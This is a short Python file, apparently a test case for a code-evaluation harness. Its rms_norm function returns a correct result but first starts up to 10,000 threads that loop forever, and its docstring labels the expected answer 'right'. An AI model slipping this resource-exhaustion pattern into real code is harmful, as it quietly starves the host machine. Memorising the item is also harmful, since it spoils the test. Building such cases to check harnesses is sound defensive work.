"""Starts threads by the thousand, which compute for ever.

answers: right
"""

import threading

import numpy as np


def compute():
    while True:
        pass


def rms_norm(x, weight, eps):
    for _ in range(10_000):
        try:
            threading.Thread(target=compute, daemon=True).start()
        except RuntimeError:
            break
    return x / np.sqrt(np.mean(x * x, axis=-1, keepdims=True) + np.float32(eps)) * weight
